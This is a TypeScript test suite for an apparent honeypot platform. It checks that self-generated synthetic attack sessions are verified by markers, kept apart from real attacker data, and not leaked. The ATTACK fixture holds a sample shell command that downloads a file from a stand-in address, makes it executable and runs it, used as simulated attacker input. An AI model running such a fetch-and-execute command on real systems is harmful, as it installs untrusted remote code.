import { createHmac, randomBytes, randomUUID } from 'node:crypto'
import type {
  GoldenSignals,
  OpsAlert,
  SyntheticMarker,
  SyntheticRun,
  SyntheticStatus,
} from '@eviltwin/contract'
import pg from 'pg'
import { afterEach, describe, expect, inject, test } from 'vitest'
import { createMarkers, markerDigest } from '../../domain/synthetic-marker.js'
import { openFeed } from '../../testing/test-feed.js'
import { SECRET_KEY, SENSOR_KEY, startTestPlatform, type TestPlatform } from '../../testing/test-platform.js'
import { until } from '../../testing/until.js'
import { createRunStore } from './run-store.js'

const ON = {
  SYNTHETIC_ATTACKS: 'on',
  SYNTHETIC_INTERVAL_SECONDS: '86400',
  SYNTHETIC_WINDOW_SECONDS: '20',
}
/** Tables that hold what attackers do, or follow from it. */
const TABLES_OF_ATTACKERS = [
  'events',
  'event_keys',
  'record_texts',
  'sessions',
  'attackers',
  'attacker_hours',
  'attacker_days',
  'sensors',
  'event_rollups',
  'session_rollups',
  'pending_totals',
  'alert_queue',
  'alerts',
  'deliveries',
  'feed_sources',
  'feed_entries',
] as const
const SENSOR = 'decoy-7'
const SOURCE = '198.51.100.77'
const markers = createMarkers(SECRET_KEY)

interface ExpectedAttack {
  sensor_id?: string
  source_ip?: string
  /** Milliseconds from now on for which it is expected. */
  windowMs?: number
}

/** Records of a session, as a sensor sends them. */
interface Sent {
  session: string
  marker?: string
  sensor_id?: string
  source_ip?: string
}

const CONNECT = { event_type: 'connect', protocol: 'ssh' }
const ATTACK = {
  event_type: 'command',
  command: 'cd /tmp && wget http://192.0.2.66/x -O .x && chmod 777 .x && ./.x',
}

describe.each(inject('postgresServers'))('synthetic attacks on $version', { timeout: 60_000 }, (server) => {
  const open: TestPlatform[] = []
  const clients: pg.Client[] = []
  afterEach(async () => {
    for (const client of clients.splice(0)) await client.end()
    for (const platform of open.splice(0).reverse()) await platform.close()
  })

  async function started(environment: Record<string, string> = {}, beside?: TestPlatform) {
    const platform = await startTestPlatform(server, { environment, ...(beside && { beside }) })
    open.push(platform)
    const client = new pg.Client(platform.databaseUrl)
    await client.connect()
    clients.push(client)
    const rows = async (text: string, values: unknown[] = []) => (await client.query(text, values)).rows
    return { platform, admin: await platform.login(), rows }
  }
  type Started = Awaited<ReturnType<typeof started>>

  const runsOf = async ({ platform, admin }: Started) =>
    ((await (await platform.call('/synthetic/runs', { as: admin })).json()) as { items: SyntheticRun[] })
      .items
  const statusOf = async ({ platform, admin }: Started) =>
    (await (await platform.call('/synthetic/status', { as: admin })).json()) as SyntheticStatus
  const ignored = async (of: Started, reason: SyntheticMarker['reason']) =>
    until(async () => (await statusOf(of)).ignored_markers.find((marker) => marker.reason === reason))

  /** Expects an attack, as the platform does before it makes one. @returns its id and its marker. */
  async function expectAttack({ rows }: Started, attack: ExpectedAttack = {}) {
    const { sensor_id = SENSOR, source_ip = SOURCE, windowMs = 30_000 } = attack
    const opens_at = Date.now()
    const nonce = randomBytes(16)
    const marker = markers.of({ sensor_id, opens_at, nonce })
    const id = randomUUID()
    const store = createRunStore({ query: async ({ text, values }) => rows(text, values as unknown[]) })
    const isExpected = await store.expect({
      id,
      target_id: randomUUID(),
      target_name: 'a target',
      kind: 'ssh',
      sensor_id,
      source_ip,
      nonce,
      marker_digest: markerDigest(marker),
      opens_at: new Date(opens_at),
      closes_at: new Date(opens_at + windowMs),
    })
    expect(isExpected).toBe(true)
    return { id, marker }
  }

  /** Sends a part of a session. */
  async function send(
    { platform }: Started,
    { session, marker, sensor_id = SENSOR, source_ip = SOURCE }: Sent,
    part: object,
  ) {
    const answer = await platform.send(
      JSON.stringify({
        source_ip,
        sensor_id,
        session_id: session,
        occurred_at: new Date().toISOString(),
        ...part,
        ...(marker !== undefined && { password: marker, message: marker }),
      }),
    )
    expect(answer.status).toBe(200)
    return (await answer.json()) as { session_id: string }
  }
  const login = { event_type: 'login_attempt', outcome: 'success', username: 'root', protocol: 'ssh' }
  /** A whole session: it begins, then comes the marker, then the attack. */
  async function sendSession(to: Started, sent: Sent): Promise<string> {
    const { marker: _, ...unmarked } = sent
    const { session_id } = await send(to, unmarked, CONNECT)
    await send(to, sent, login)
    await send(to, unmarked, ATTACK)
    return session_id
  }
  /** The first event of a session is kept apart once the process knows of the attack: what it does not know of is an attacker's. */
  const isKnown = async (of: Started, run: string, sensor_id = SENSOR, source_ip = SOURCE) => {
    await until(async () => {
      await send(of, { session: `probe ${randomUUID()}`, sensor_id, source_ip }, CONNECT)
      return (await of.rows('SELECT FROM synthetic_sessions WHERE run_id = $1', [run])).length > 0
    })
  }
  const isStored = async ({ rows }: Started, session: string) =>
    (await rows('SELECT FROM sessions WHERE id = $1', [session])).length === 1
  const isHeld = async ({ rows }: Started, session: string) =>
    (await rows('SELECT FROM synthetic_sessions WHERE id = $1', [session])).length === 1

  test('an attack by each way in is timed on every hop, and leaves nothing where attackers are', async () => {
    const own = await started(ON)
    const { platform, admin, rows } = own
    const feed = await openFeed(platform, admin)
    await platform.platform.beginAttacks(platform.url)
    const runs = await until(async () => {
      const items = await runsOf(own)
      return items.length === 2 && items.every(({ outcome }) => outcome !== 'waiting') && items
    })
    for (const run of runs) {
      expect(run).toMatchObject({ outcome: 'detected', failure: null })
      const { attacked_at, received_at, scored_at, durable_at, alerted_at, delivered_at, acknowledged_at } =
        run
      expect([
        attacked_at,
        received_at,
        scored_at,
        durable_at,
        alerted_at,
        delivered_at,
        acknowledged_at,
      ]).not.toContain(null)
    }
    const status = await statusOf(own)
    expect(status).toMatchObject({ on: true, paused_because: null, ignored_markers: [] })
    expect(status.targets.map(({ kind }) => kind).sort()).toEqual(['hec', 'log'])
    for (const table of TABLES_OF_ATTACKERS)
      expect([table, (await rows(`SELECT count(*)::int AS n FROM ${table}`))[0].n]).toEqual([table, 0])
    expect(feed.alerts()).toEqual([])
    await feed.close()
    const written = await rows('SELECT content FROM synthetic_events')
    const secrets = [
      ...runs.flatMap(({ session_id, source_ip, id }) => [session_id, source_ip, id]),
      ...(await rows('SELECT alert_id FROM synthetic_runs')).map(({ alert_id }) => alert_id),
      ...written.map(({ content }) => content.password).filter(Boolean),
      ...written.map(({ content }) => content.id),
    ] as string[]
    expect(secrets.length).toBeGreaterThan(10)
    expect(await leaks(own, secrets, runs)).toEqual([])
  })

  /** Asks every GET route for everything it has, and says which answers have any of the texts. */
  async function leaks(
    { platform, admin }: Started,
    secrets: readonly string[],
    runs: readonly SyntheticRun[],
  ) {
    const description = (await (await platform.call('/openapi.json', { as: admin })).json()) as {
      paths: Record<string, Record<string, { parameters?: Array<{ name: string; in: string }> }>>
    }
    const found: string[] = []
    let asked = 0
    for (const [path, { get }] of Object.entries(description.paths)) {
      if (!get || path.startsWith('/synthetic/') || path === '/ws/alerts') continue
      for (const run of runs) {
        const url = path.replace(/\{(\w+)\}/g, (_, name) =>
          /ip/.test(name) ? run.source_ip : /sensor/.test(name) ? run.sensor_id : (run.session_id ?? ''),
        )
        for (const query of queriesOf(get.parameters ?? [], run)) {
          const answer = await platform.call(`${url}${query}`, { as: admin })
          asked += 1
          const text = await answer.text()
          // A refusal repeats what was asked for.
          if (answer.ok && secrets.some((secret) => text.includes(secret))) found.push(`${url}${query}`)
        }
      }
    }
    expect(asked).toBeGreaterThan(60)
    return found
  }

  /** As asked without filters, and with each filter that names what an attack has. */
  function queriesOf(parameters: ReadonlyArray<{ name: string; in: string }>, run: SyntheticRun): string[] {
    const values: Record<string, string | null> = {
      src_ip: run.source_ip,
      sensor_id: run.sensor_id,
      session_id: run.session_id,
      q: 'wget',
      ioc: 'wget',
      command: 'wget',
      count: 'true',
    }
    const named = parameters.filter((parameter) => parameter.in === 'query' && values[parameter.name])
    return ['', ...named.map(({ name }) => `?${new URLSearchParams({ [name]: String(values[name]) })}`)]
  }

  test('what the platform sends itself is in no golden signal and no objective, whatever becomes of it', async () => {
    const own = await started(ON)
    const { platform, admin } = own
    await platform.platform.beginAttacks(platform.url)
    await until(async () => {
      const items = await runsOf(own)
      return items.length === 2 && items.every(({ outcome }) => outcome !== 'waiting')
    })
    const key = `et_${createHmac('sha256', SECRET_KEY).update('synthetic attacks: log').digest('base64url')}`
    const refused = await platform.call('/log', { method: 'POST', as: key, body: 'no record' })
    expect(refused.status).toBe(400)
    const metrics = await (await platform.call('/metrics')).text()
    const populations = [
      ...metrics.matchAll(
        /^eviltwin_ingest_request_duration_seconds_count\{[^}]*population="(\w+)"[^}]*\} (\d+)/gm,
      ),
    ].map(([, population, count]) => [population, Number(count)] as const)
    expect(new Set(populations.map(([population]) => population))).toEqual(new Set(['synthetic']))
    // Two of POST /log, one of the event collector, and the one that was refused.
    expect(populations.reduce((sum, [, count]) => sum + count, 0)).toBe(4)
    const signals = (await (
      await platform.call('/ops/signals?minutes=5', { as: admin })
    ).json()) as GoldenSignals
    const routes = signals.routes.map(({ route }) => route)
    expect(routes).toContain('GET /synthetic/runs')
    expect(routes.filter((route) => /^POST \/(log|services)/.test(route))).toEqual([])
    const counted = await own.rows('SELECT DISTINCT series FROM signals')
    const ingest = counted.map(({ series }) => series as string).filter((series) => /POST/.test(series))
    expect(ingest.filter((series) => !/synthetic/.test(series) && !/auth/.test(series))).toEqual([])
    // The same from a sensor is counted.
    await send(own, { session: 'of a sensor' }, CONNECT)
    await until(async () => {
      const answer = await platform.call('/ops/signals?minutes=5', { as: admin })
      return ((await answer.json()) as GoldenSignals).routes.some(({ route }) => route === 'POST /log')
    })
  })

  test('a session that proves to be of an attack is kept apart from its first event to its last', async () => {
    const own = await started()
    const { id, marker } = await expectAttack(own)
    await isKnown(own, id)
    const session = await sendSession(own, { session: 'ours', marker })
    expect(await isStored(own, session)).toBe(false)
    await send(own, { session: 'ours' }, { event_type: 'disconnect' })
    expect(await own.rows('SELECT state, session_id FROM synthetic_runs WHERE id = $1', [id])).toEqual([
      { state: 'verified', session_id: session },
    ])
    const events = await own.rows('SELECT FROM synthetic_events WHERE session_id = $1', [session])
    expect(events).toHaveLength(4)
    await until(async () => (await own.rows('SELECT FROM synthetic_alerts')).length === 1)
    expect(await own.rows('SELECT FROM alerts')).toEqual([])
    // Everything else that was kept apart while the attack was expected is an attacker's, and is given back at once.
    await until(
      async () => (await own.rows('SELECT FROM synthetic_sessions WHERE id <> $1', [session])).length === 0,
    )
  })

  test('a forged marker hides nothing: when the time of the attack is over the session is an attacker’s, with its alert', async () => {
    const own = await started({ OPERATIONS_INTERVAL_SECONDS: '0.2' })
    const { id } = await expectAttack(own, { windowMs: 4_000 })
    await isKnown(own, id)
    const session = await sendSession(own, { session: 'forger', marker: `evtw${'a'.repeat(32)}` })
    await until(() => isStored(own, session))
    await until(
      async () => (await own.rows('SELECT FROM alerts WHERE session_id = $1', [session])).length > 0,
    )
    await until(async () => !(await isHeld(own, session)))
    expect(await ignored(own, 'unknown')).toMatchObject({
      session_id: session,
      source_ip: SOURCE,
      sensor_id: SENSOR,
    })
    const firing = await until(async () => {
      const answer = await own.platform.call('/ops/alerts', { as: own.admin })
      const { items } = (await answer.json()) as { items: OpsAlert[] }
      return items.find((alert) => alert.id === 'synthetic-marker-forged' && alert.state === 'firing')
    })
    expect(firing).toMatchObject({ value: 1, detail: `forged, once, from ${SOURCE} on "${SENSOR}".` })
    const [row] = await own.rows('SELECT event_count, command_count FROM sessions WHERE id = $1', [session])
    expect(row).toEqual({ event_count: 3, command_count: 1 })
    expect(
      (await own.rows('SELECT session_count FROM sensors WHERE sensor_id = $1', [SENSOR]))[0].session_count,
    ).toBeDefined()
  })

  test.each([
    ['replayed', 'replayed'],
    ['of another sensor', 'elsewhere'],
    ['of another address', 'elsewhere'],
    ['late', 'late'],
  ] as const)('a marker that is %s hides nothing', async (how, reason) => {
    const own = await started()
    const { id, marker } = await expectAttack(own, how === 'late' ? { windowMs: 2_500 } : {})
    await isKnown(own, id)
    if (how === 'replayed') await sendSession(own, { session: 'ours', marker })
    if (how === 'late')
      await until(
        async () => (await own.rows(`SELECT FROM synthetic_runs WHERE state = 'failed'`)).length === 1,
      )
    const session = await sendSession(own, {
      session: 'attacker',
      marker,
      ...(how === 'of another sensor' && { sensor_id: 'decoy-8' }),
      ...(how === 'of another address' && { source_ip: '198.51.100.78' }),
    })
    await until(() => isStored(own, session))
    await until(
      async () => (await own.rows('SELECT FROM alerts WHERE session_id = $1', [session])).length > 0,
    )
    expect(await ignored(own, reason)).toMatchObject({ session_id: session })
    expect(await isHeld(own, session)).toBe(false)
  })

  test('of two sessions that bring the same marker to two replicas at once, one is ours', async () => {
    const first = await started()
    const second = await started({}, first.platform)
    const { id, marker } = await expectAttack(first)
    await isKnown(first, id)
    await isKnown(second, id)
    const sessions = await Promise.all(
      [first, second].map((replica, n) =>
        send(replica, { session: `race ${n}`, marker }, { ...login, ...ATTACK }),
      ),
    )
    const ids = sessions.map(({ session_id }) => session_id)
    await until(async () => {
      const stored = await Promise.all(ids.map((each) => isStored(first, each)))
      return stored.filter(Boolean).length === 1
    })
    const [run] = await first.rows('SELECT state, session_id FROM synthetic_runs WHERE id = $1', [id])
    expect(run.state).toBe('verified')
    expect(ids).toContain(run.session_id)
    expect(await ignored(first, 'replayed')).toBeDefined()
  })

  test('what is given back counts once, although the sensor sends it again', async () => {
    const own = await started()
    const { id } = await expectAttack(own, { windowMs: 3_000 })
    await isKnown(own, id)
    const record = JSON.stringify({
      source_ip: SOURCE,
      sensor_id: SENSOR,
      session_id: 'again',
      occurred_at: new Date().toISOString(),
      ...ATTACK,
    })
    const sendRecord = async () =>
      (await (
        await own.platform.call('/log', {
          method: 'POST',
          as: SENSOR_KEY,
          headers: { 'content-type': 'application/x-ndjson' },
          body: record,
        })
      ).json()) as { accepted: number; duplicates: number }
    expect(await sendRecord()).toMatchObject({ accepted: 1, duplicates: 0 })
    expect(await sendRecord()).toMatchObject({ accepted: 0, duplicates: 1 })
    await until(async () => (await own.rows('SELECT FROM synthetic_events')).length === 0)
    expect(await sendRecord()).toMatchObject({ accepted: 0, duplicates: 1 })
    expect(
      await own.rows(`SELECT event_count FROM sessions WHERE 'command' <> '' AND command_count = 1`),
    ).toEqual([{ event_count: 1 }])
  })

  test('attackers on the same sensor from elsewhere, and on other sensors, are stored while an attack is expected', async () => {
    const own = await started()
    const { id } = await expectAttack(own)
    await isKnown(own, id)
    const elsewhere = await sendSession(own, { session: 'a', source_ip: '198.51.100.99' })
    const other = await sendSession(own, { session: 'b', sensor_id: 'decoy-9' })
    expect([await isStored(own, elsewhere), await isStored(own, other)]).toEqual([true, true])
  })

  test('a session that began before an attack stays an attacker’s when it sends the marker', async () => {
    const own = await started()
    const { session_id } = await send(own, { session: 'early' }, CONNECT)
    const { id, marker } = await expectAttack(own)
    await isKnown(own, id)
    await send(own, { session: 'early', marker }, login)
    expect(await isHeld(own, session_id)).toBe(false)
    const [row] = await own.rows('SELECT event_count FROM sessions WHERE id = $1', [session_id])
    expect(row).toEqual({ event_count: 2 })
  })
})
